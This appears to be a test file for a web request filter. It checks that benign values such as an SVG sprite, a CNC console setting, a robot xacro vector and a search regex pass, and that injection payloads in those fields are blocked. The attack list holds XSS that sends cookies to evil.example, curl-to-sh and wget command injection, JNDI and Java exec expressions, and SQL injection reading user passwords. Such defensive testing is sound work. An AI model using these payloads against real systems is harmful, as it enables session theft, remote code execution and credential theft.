/**
 * The shapes of blind benign set 19 (session 36, bb36, read) through the full pipeline (bundled rules + the shipped
 * model, `warden eval`): a block-coding editor's sprite costume (svg-drawing.ts), a CNC sender's console line and a
 * robot description's vector with `${name}` references (machine-settings.ts), and a corpus tool's tier regex
 * (regex-value.ts) pass; injections in the same fields are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const json = (host: string, path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
const attr = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

const CARRIERS: Record<string, Carrier> = {
  'sprite costume': json('blocks.example-school.org', '/api/projects/p1/sprites', (v) => ({ name: 'Robot', costume: v })),
  'grbl console': json('cnc.local', '/api/console', (v) => ({ lines: ['$X', '$H', v, '?'] })),
  'xacro origin': (v) => ({ method: 'PUT', path: '/api/workspace/src/rover_description/urdf/rover.urdf.xacro', query: '', headers: { Host: 'ide.example-lab.edu', 'Content-Type': 'application/xml' }, body: `<robot xmlns:xacro="http://www.ros.org/wiki/xacro" name="rover"><joint name="left_wheel_joint" type="continuous"><origin xyz="${attr(v)}" rpy="0 0 0"/></joint></robot>` }),
  'tier regex': (v) => ({ method: 'GET', path: '/api/search', query: `tier=ortho&regex=${encodeURIComponent(v)}&overlap=true`, headers: { Host: 'elan.example-mpi.org' } }),
};

const BENIGN: [string, string][] = [
  ['sprite costume', '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect x="5" y="5" width="30" height="30" rx="6" fill="#8cf"/><circle cx="15" cy="18" r="3"/><circle cx="25" cy="18" r="3"/></svg>'],
  ['grbl console', '$130=800'],
  ['xacro origin', '0 ${y} 0'],
  ['tier regex', '^(ha|he)(ll|l)o\\b'],
];

const ATTACKS: [string, string][] = [
  ['sprite costume', '<svg onload=alert(document.cookie)>'],
  ['sprite costume', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="5"/></svg>'],
  ['sprite costume', '<svg><a href="javascript:alert(document.domain)"><rect width="40" height="40"/></a></svg>'],
  ['sprite costume', '<svg><rect width="9"/><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['grbl console', '$130=800;cat /etc/passwd'],
  ['grbl console', '$(curl -s http://evil.example/x.sh|sh)'],
  ['xacro origin', '0 ${jndi:ldap://evil.example/a} 0'],
  ['xacro origin', "0 ${T(java.lang.Runtime).getRuntime().exec('id')} 0"],
  ['tier regex', "' or 1=1--"],
  ['tier regex', 'x|wget http://evil.example/x.sh'],
  ['tier regex', '<script>alert(1)</script>'],
  ['tier regex', "a' union select username, password from users--"],
];

testCarriers('value shapes of blind benign set 19 through the pipeline', 'lets the costume, the setting, the vector and the regex pass', CARRIERS, BENIGN, ATTACKS);
